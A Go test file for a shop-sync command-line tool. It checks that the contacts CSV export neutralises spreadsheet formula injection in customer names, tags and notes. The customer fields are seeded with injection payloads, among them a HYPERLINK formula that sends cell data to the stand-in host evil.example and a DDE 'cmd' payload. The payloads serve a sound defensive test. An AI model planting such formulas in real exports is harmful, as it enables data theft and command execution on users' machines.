package main

import (
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/shopsync/shopsync/shopifytest"
)

// TestExportCSVNeutralisesFormulas: customers' own input (names, notes,
// tags) that a spreadsheet would run as a formula is exported as text.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	sim, env := shopEnv(t, shopifytest.Options{Customers: 3, Seed: 81})
	ids := sim.CustomerIDs()
	ptr := func(s string) *string { return &s }
	sim.Update(ids[0], func(c *shopifytest.Customer) {
		c.FirstName = ptr(`=HYPERLINK("http://evil.example/?"&A1,"Click")`)
		c.LastName = ptr("@SUM(1+1)*cmd|' /C calc'!A0")
		c.Phone = ptr("+16135550123")
		c.Tags = "-2+3+cmd, VIP"
		c.Note = ptr("\t=1+1")
	})
	if _, stderr, code := runCLI(t, env, "sync"); code != exitOK {
		t.Fatalf("sync: exit %d %s", code, stderr)
	}
	stdout, stderr, code := runCLI(t, env, "contacts", "export", "--format", "csv")
	if code != exitOK {
		t.Fatalf("export: exit %d %s", code, stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil || len(rows) != 4 {
		t.Fatalf("csv: %d rows, %v", len(rows), err)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for _, r := range rows[1:] {
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %s, column %s: %q starts with a formula character", r[0], rows[0][i], cell)
			}
		}
	}
	for _, r := range rows[1:] {
		if r[0] != strconv.FormatInt(ids[0], 10) {
			continue
		}
		for name, want := range map[string]string{
			"first_name": `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, "last_name": "'@SUM(1+1)*cmd|' /C calc'!A0",
			"phone": "'+16135550123", "tags": "'-2+3+cmd, VIP", "note": "'\t=1+1",
		} {
			if got := r[col[name]]; got != want {
				t.Errorf("%s: %q, want %q", name, got, want)
			}
		}
	}
}
